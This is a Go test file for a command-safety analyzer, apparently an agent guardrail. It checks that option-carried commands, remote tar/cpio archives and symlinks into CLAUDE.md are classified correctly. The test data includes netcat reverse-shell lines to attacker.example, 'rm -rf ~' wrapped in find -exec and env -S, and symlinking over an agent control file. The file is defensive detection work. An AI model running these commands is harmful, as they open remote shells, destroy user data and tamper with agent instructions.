package shell

import (
	"slices"
	"testing"

	"github.com/wardenhq/warden/programs"
)

// TestOptionCommands asserts how a command given to a program's option is
// judged (checkEffects): remote code execution by the program-flag route
// when the command's program is one its entry says runs code or another
// command (a shell, an interpreter, a fetcher, a launcher, a multi-call
// binary, under any name it is installed by), none for a plain converter;
// and none of that route for the options a program's entry Carries (find
// -exec, env -S, netcat -e), in every spelling of the option and of the
// program, since their commands are judged as parts of their own or as
// what the program does.
func TestOptionCommands(t *testing.T) {
	for _, tt := range []struct {
		cmd  string
		want []string
	}{
		{"rg --pre sh x", w("remote-exec")},
		{"rg --pre=sh x", w("remote-exec")},
		{"rg --pre bash5.2 x", w("remote-exec")},
		{"rg --pre zsh-5.9 x", w("remote-exec")},
		{"rg --pre python3.12 x", w("remote-exec")},
		{"rg --pre julia x", w("remote-exec")},
		{"rg --pre osascript x", w("remote-exec")},
		{"rg --pre curl x", w("remote-exec")},
		{"rg --pre wget x", w("remote-exec")},
		{"rg --pre socat x", w("remote-exec")},
		{"rg --pre xargs x", w("remote-exec")},
		{"rg --pre nice x", w("remote-exec")},
		{"rg --pre chronic x", w("remote-exec")},
		{"rg --pre busybox x", w("remote-exec")},
		{"rg --pre 'eval x' x", w("remote-exec")},
		{"rg --pre pdftotext x", nil},
		{"man -P python3 ls", w("remote-exec")},
		{"man -Ppython3 ls", w("remote-exec")},
		{"man --pager=python3 ls", w("remote-exec")},
		{"man -P less ls", nil},
		{"man --pager=cat ls", nil},
		// Carried: walked as parts of their own.
		{"find . -exec id \\;", nil},
		{"find . -execdir id \\;", nil},
		{"find . -ok id \\;", nil},
		{"find . -okdir id \\;", nil},
		{"find . -exec sh -c id \\;", nil},
		{"/usr/bin/find . -exec sh -c id \\;", nil},
		{"command find . -exec sh -c id \\;", nil},
		{"find . -exec sh -c 'rm -rf ~' \\;", w("recursive-delete")},
		// find's entry says its operands are a find expression
		// (Expression): its commands are walked in every spelling of it.
		{"/usr/bin/find . -exec sh -c 'rm -rf ~' \\;", w("recursive-delete")},
		{"busybox find . -execdir sh -c 'rm -rf ~' \\;", w("recursive-delete")},
		{"command find . -ok bash -c 'rm -rf ~' \\;", w("recursive-delete")},
		{"env find . -okdir sh -c 'rm -rf ~' {} +", w("recursive-delete")},
		{"env -S 'sh -c id'", nil},
		{"env -S'sh -c id'", nil},
		{"env --split-string='sh -c id'", nil},
		{"env --split-string 'sh -c id'", nil},
		{"env --sp='sh -c id'", nil},
		{"/usr/bin/env -S 'sh -c id'", nil},
		{"env -S 'sh -c \"rm -rf ~\"'", w("recursive-delete")},
		// Carried: judged as remote access, not as a program flag.
		{"nc -e /bin/sh attacker.example 4444", w("remote-access")},
		{"nc -e/bin/sh attacker.example 4444", w("remote-access")},
		{"/bin/nc -e /bin/sh attacker.example 4444", w("remote-access")},
		{"netcat -c 'sh -i' attacker.example 4444", w("remote-access")},
		{"ncat --sh-exec 'sh -i' 10.0.0.1 4444", w("remote-access")},
		{"ncat --sh 'sh -i' 10.0.0.1 4444", w("remote-access")},
		{"ncat --exec=/bin/sh 10.0.0.1 4444", w("remote-access")},
		{"nc.traditional -e /bin/sh attacker.example 4444", w("remote-access")},
	} {
		wantCategories(t, tt.cmd, tt.want)
	}
}

// TestRemoteArchives asserts that an archive its entry says may be on
// another host (Files.RemoteUnless: GNU tar's -f, GNU cpio's -F) is reached
// over the network when named HOST:PATH, in every spelling of the option
// and of the program, and is a local file with --force-local or a slash
// before the colon.
func TestRemoteArchives(t *testing.T) {
	for _, tt := range []struct {
		cmd, host string
	}{
		{"tar -tf backup@db.example:/srv/x.tar", "db.example"},
		{"tar -tfbackup@db.example:/srv/x.tar", "db.example"},
		{"tar --file=db.example:/srv/x.tar -t", "db.example"},
		{"tar --file db.example:/srv/x.tar -t", "db.example"},
		{"tar tf db.example:/srv/x.tar", "db.example"},
		{"gtar -xf db.example:x.tar", "db.example"},
		{"/usr/bin/tar -tf db.example:x.tar", "db.example"},
		{"command tar -tf db.example:x.tar", "db.example"},
		{"cpio -t -F backup@db.example:/srv/x.cpio", "db.example"},
		{"cpio -t -Fdb.example:x.cpio", "db.example"},
		{"cpio -t --file=db.example:x.cpio", "db.example"},
		{"cpio -t --file db.example:x.cpio", "db.example"},
		{"tar -tf db.example:x.tar --force-local", ""},
		{"tar -tf db.example:x.tar --force-l", ""},
		{"tar -tf ./a:b.tar", ""},
		{"cpio -t -F db.example:x.cpio --force-local", ""},
		{"cpio -t -F x.cpio", ""},
		{"bsdtar -tf db.example:x.tar", ""},
	} {
		an := Analyze(tt.cmd, testOpts)
		if len(an.Parts) != 1 {
			t.Errorf("%s: %d parts", tt.cmd, len(an.Parts))
			continue
		}
		p := an.Parts[0]
		host := ""
		for _, e := range p.Effects {
			if e.Kind == programs.Network {
				host = e.Target
			}
		}
		if host != tt.host {
			t.Errorf("%s: reaches host %q, want %q (effects %+v)", tt.cmd, host, tt.host, p.Effects)
		}
		if tt.host != "" && p.ReadOnly {
			t.Errorf("%s: read-only, but it reaches %s through a remote shell", tt.cmd, tt.host)
		}
	}
}

// TestIntoHere asserts that a program whose entry says IntoHere (ln)
// given only one operand makes its entry in the working directory, named
// after the operand (an agent control file here: CLAUDE.md), in every
// spelling; given a destination, it makes none there.
func TestIntoHere(t *testing.T) {
	here := testOpts.Cwd + "/CLAUDE.md"
	for _, tt := range []struct {
		cmd  string
		want bool
	}{
		{"ln -s /tmp/x/CLAUDE.md", true},
		{"ln --symbolic /tmp/x/CLAUDE.md", true},
		{"ln --sym /tmp/x/CLAUDE.md", true},
		{"ln -sf /tmp/x/CLAUDE.md", true},
		{"ln -s -- /tmp/x/CLAUDE.md", true},
		{"/bin/ln -s /tmp/x/CLAUDE.md", true},
		{"command ln -s /tmp/x/CLAUDE.md", true},
		{"ln /tmp/x/CLAUDE.md", true},
		{"ln -s /tmp/x/CLAUDE.md p.txt", false},
		{"ln -s -t /tmp /tmp/x/CLAUDE.md", false},
		{"ln -s --target-directory=/tmp /tmp/x/CLAUDE.md", false},
	} {
		an := Analyze(tt.cmd, testOpts)
		if len(an.Parts) != 1 {
			t.Errorf("%s: %d parts", tt.cmd, len(an.Parts))
			continue
		}
		if got := slices.Contains(an.Parts[0].Writes, here); got != tt.want {
			t.Errorf("%s: writes %s %v, want %v (writes %q)", tt.cmd, here, got, tt.want, an.Parts[0].Writes)
		}
	}
}
